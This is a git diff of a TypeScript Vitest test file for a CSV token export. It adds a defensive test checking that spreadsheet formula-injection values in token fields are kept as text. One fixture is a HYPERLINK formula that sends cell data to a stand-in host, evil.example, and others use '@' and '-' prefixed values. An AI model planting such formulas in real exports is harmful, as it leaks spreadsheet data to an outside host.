@@ -1,7 +1,9 @@
 import { beforeAll, describe, expect, it } from "vitest";
 import { createTokenBatch, tokensCsvStream } from "@/lib/domain/tokens";
 import { EXPORT_BATCH } from "@/lib/domain/tokens/export";
+import { parse } from "csv-parse/sync";
 import { makeFrontdoor, makeUser } from "@/lib/testing/fixtures";
+import { formulaPieces } from "@/lib/testing/spreadsheet";
 
 // The CSV export reads in batches from where the last ended (Prisma's cursor): across batch
 // boundaries no token may be missed or repeated, in any sort order, and a refusal comes
@@ -23,19 +25,29 @@ describe("exporting tokens as CSV", () => {
     }
   });
 
-  const exported = async (sort: string) => (await new Response(await tokensCsvStream(principal, frontdoorId, { sort })).text()).trimEnd().split(/\r?\n/);
+  const exported = async (sort: string) => parse(await new Response(await tokensCsvStream(principal, frontdoorId, { sort })).text()) as string[][];
 
   it.each(["name,asc", "name,desc", "createdAt,desc", "commonName,asc"])("every token exactly once, in order, sorted by %s", async (sort) => {
     const [header, ...rows] = await exported(sort);
-    expect(header).toMatch(/^id,name,status,commonName,/);
+    expect(header!.slice(0, 4)).toEqual(["id", "name", "status", "commonName"]);
     expect(rows).toHaveLength(COUNT);
-    const ids = rows.map((r) => r.split(",")[0]);
+    const ids = rows.map((r) => r[0]);
     expect(new Set(ids).size).toBe(COUNT);
     if (sort.startsWith("name")) {
-      const names = rows.map((r) => r.split(",")[1]!);
+      const names = rows.map((r) => r[1]!);
       const sorted = [...names].sort();
       expect(names).toEqual(sort.endsWith("asc") ? sorted : sorted.reverse());
     }
+  });
+
+  it("a name made to run as a formula in a semicolon-locale spreadsheet stays text", async () => {
+    const hostile = (await makeFrontdoor()).id;
+    const name = 'x;=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const operator = (await makeUser("operator", [hostile])).principal;
+    await createTokenBatch(operator, hostile, { json: { tokens: [{ name, commonName: "-x.example.com", organization: "a,@SUM(A1)" }] } });
+    const text = await new Response(await tokensCsvStream(operator, hostile)).text();
+    expect(formulaPieces(text)).toEqual([]);
+    expect((parse(text) as string[][])[1]![1]).toBe(`x;'=HYPERLINK("http://evil.example/?"&A1,"click")`);
   });
 
   it("refuses a caller without access before streaming anything", async () => {
